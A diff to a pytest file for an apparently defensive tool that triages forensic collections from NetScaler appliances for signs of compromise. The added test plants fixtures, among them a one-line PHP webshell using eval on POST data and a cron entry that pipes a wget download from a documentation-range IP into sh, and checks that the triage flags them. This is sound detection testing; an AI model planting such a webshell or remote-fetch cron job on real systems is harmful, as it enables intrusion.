@@ -6,13 +6,14 @@ from pathlib import Path
 
 import pytest
 
-from ketenherstel.gateway.triage import read_collection, tar_bytes, triage
+from ketenherstel.gateway.triage import checkable, read_collection, tar_bytes, triage
 from ketenherstel.gateway.watch import GatewayInputError
 
 T = 1_750_000_000
 CLEAN = {
     "listing.txt": (
         f"/var/netscaler/gui/admin_ui/php/index.php|root|wheel|644|{T}|{T}|1200\n"
+        f"/netscaler/ns_gui/admin_ui/php/index.php|root|wheel|644|{T}|{T}|1200\n"
         f"/var/netscaler/logon/LogonPoint/index.html|root|wheel|644|{T}|{T}|800\n"
         f"/usr/bin/su|root|wheel|4755|{T}|{T}|20000\n"
         f"/var/tmp/build.log|nobody|nobody|644|{T}|{T}|10\n"
@@ -22,6 +23,7 @@ CLEAN = {
         b"AddType application/x-httpd-php .php\nRequire all denied\nphp_flag engine off\n"
     ),
     "cron/tabs/root": b"SHELL=/bin/sh\n0 * * * * /netscaler/nsclfsyncd -v\n",
+    "etc/crontab": b"SHELL=/bin/sh\n*/10 * * * * root /netscaler/nslog_rotate\n",
     "custom_checks.log": (
         b"===== Check script version 1.8.1 =====\n===== PHP files in /var/netscaler/ =====\n"
         b"\n===== Check for setuid shell at /var/tmp/sh =====\n"
@@ -93,3 +95,31 @@ def test_unreadable_collections_are_named(tmp_path: Path) -> None:
         read_collection(bad)
     with pytest.raises(GatewayInputError):
         read_collection(tmp_path / "missing.tar")
+
+
+def test_files_collected_from_the_appliance_and_the_system_crontab_are_checked(
+    tmp_path: Path,
+) -> None:
+    """Not only the listing: a webshell collected as a file, a system crontab's job of nobody."""
+    files = {
+        "var/netscaler/logon/a.php": b"<?php eval($_POST[1]);?>",
+        "netscaler/ns_gui/admin_ui/php/index.php": b"<?php // stock ?>",
+        "etc/crontab": b"SHELL=/bin/sh\n*/5 * * * * nobody /var/tmp/x.sh\n@reboot root /bin/true\n",
+        "etc/cron.d/update": b"0 4 * * * root wget -q http://198.51.100.9/u -O- | sh\n",
+    }
+    tar = tmp_path / "c2.tar.gz"
+    tar.write_bytes(tar_bytes(files))
+    found = triage(read_collection(tar))
+    assert sorted((f.rule, str(f.evidence[0])) for f in found) == [
+        ("triage-cron-fetch", "etc/cron.d/update:0"),
+        ("triage-cron-nobody", "etc/crontab:14"),
+        ("triage-script-in-web-dir", "var/netscaler/logon/a.php:0"),
+    ]
+    shell = next(f for f in found if f.rule == "triage-script-in-web-dir")
+    assert "runs code" in shell.detail and shell.confidence == "high"
+    assert checkable(read_collection(tar))
+    (tmp_path / "empty").mkdir()
+    (tmp_path / "other").mkdir()
+    (tmp_path / "other" / "notes.txt").write_text("hello")
+    assert checkable(read_collection(tmp_path / "empty")) == []
+    assert checkable(read_collection(tmp_path / "other")) == []
